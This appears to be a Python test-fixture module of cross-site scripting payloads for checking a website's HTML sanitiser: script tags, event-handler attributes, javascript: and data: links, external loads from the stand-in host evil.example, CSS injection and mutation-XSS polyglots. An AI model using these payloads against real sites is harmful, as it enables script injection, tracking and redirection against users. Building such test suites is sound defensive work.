"""Texts that try to run code, to fetch from elsewhere or to leave the site unseen.

Each calls `alert` or `pwned()` or fetches from EVIL when a page shows it unescaped or half cleaned. Used against the
sanitiser alone and, in the browser, against every field that reaches a page.
"""

EVIL = "evil.example"

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/random>alert(1)</script\t>",
    "<<script>alert(1);//<</script>",
    '<script type="module">import("//evil.example/x.js")</script>',
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x` `"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="/media/photos/ab/abcdef-960.jpg" data-file="1" onload="alert(1)">',
    "<img src=x o\x00nerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    '<p onclick="alert(1)" onmouseover=alert(1)>文字</p>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="/articles/" onpointerenter=alert(1) style="position:fixed;inset:0">x</a>',
    '<p style="animation-name:x" onanimationstart="alert(1)">x</p>',
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</table>",
    '<span class="credit" onclick=alert(1)>x</span>',
]

ADDRESSES = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="https://gov.cn@evil.example/">x</a>',
    '<a href="https://gov.cn\\@evil.example/">x</a>',
    '<a href="/ok" target="_blank" ping="//evil.example">x</a>',
    '<a href="/ok" xlink:href="javascript:alert(1)">x</a>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /><text>x</text></svg>",
]

IMAGES = [
    '<img src="//evil.example/pixel.gif">',
    '<img src="https://evil.example/pixel.gif" data-file="1">',
    '<img srcset="//evil.example/a.png 2x" data-file="1">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="/media/photos/../../admin/logout/">',
    '<img src="/media/photos/a.jpg?x=//evil.example">',
    '<img src="/media/photos/a.svg">',
    '<img data-file="1 onerror=alert(1)">',
    '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    '<picture><source srcset="//evil.example/a.avif"><img src="//evil.example/a.jpg"></picture>',
    "<image src=x onerror=alert(1)>",
]

STYLES = [
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x.png)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
    '<div class="modal fixed" id="main" style="position:fixed">x</div>',
    "<style></style><img src=x onerror=alert(1)>",
]

MUTATIONS = [
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><p title="</template><img src=x onerror=alert(1)>"></template>',
    "<noembed><img src='</noembed><img src=x onerror=alert(1)>'></noembed>",
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<svg><desc><noscript><style></noscript><img src=x onerror=alert(1)></style></desc></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",
    '<math href="javascript:alert(1)"><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<select><style></select><svg onload=alert(1)></style>",
    "<table><caption><svg><title></caption></table></title><img src=x onerror=alert(1)></svg>",
    "<p><object><p></object><svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<a><table><td><a><figure><img src=x onerror=alert(1)></a></table>",
    '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(1)>'>]>&y;",
    "<custom-element onclick=alert(1)><slot name=x></custom-element>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *IMAGES, *STYLES, *MUTATIONS]
